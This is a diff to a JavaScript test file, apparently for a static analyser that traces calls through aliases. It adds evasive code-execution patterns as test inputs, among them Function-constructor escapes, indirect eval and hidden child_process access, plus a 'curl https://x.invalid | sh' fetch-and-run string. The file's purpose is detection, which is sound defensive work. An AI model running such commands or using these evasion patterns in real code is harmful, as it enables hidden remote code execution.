@@ -44,8 +44,27 @@ describe('callees resolve through aliases', () => {
     ["require('fs').promises.readFile('x')", 'fs.readFile'],
     ["const https = require('https'); const req = https.request({}); req.end('x')", 'https.request().end'],
     ["new (require('module').constructor)()._compile('x')", 'module.constructor()._compile'],
+    ["''.constructor.constructor('return process')()", 'Function'],
+    ["(() => {}).constructor('return 1')()", 'Function'],
+    ['[].constructor.constructor(code)()', 'Function'],
+    ['eval.call(null, code)', 'eval'],
+    ['Reflect.apply(eval, null, [code])', 'eval'],
+    ["require.main.require('child_process').exec('id')", 'child_process.exec'],
+    ["module.constructor._load('child_process').execSync('id')", 'child_process.execSync'],
+    ["process.mainModule.require('child_process').spawn('sh')", 'child_process.spawn'],
   ])('%s → %s', (code, callee) => {
     expect(callees(code)).toContain(callee);
+  });
+
+  it('unwraps .call and .apply so the real arguments are seen', () => {
+    const viaCall = facts(
+      "const cp = require('child_process'); cp.exec.call(cp, 'curl https://x.invalid | sh')",
+    ).calls.find((call) => call.callee === 'child_process.exec');
+    expect(viaCall?.args[0]?.value).toBe('curl https://x.invalid | sh');
+    const viaApply = facts("require('child_process').exec.apply(null, ['id'])").calls.find(
+      (call) => call.callee === 'child_process.exec',
+    );
+    expect(viaApply?.args[0]?.value).toBe('id');
   });
 
   it('keeps one-letter names of different functions apart (minified code)', () => {
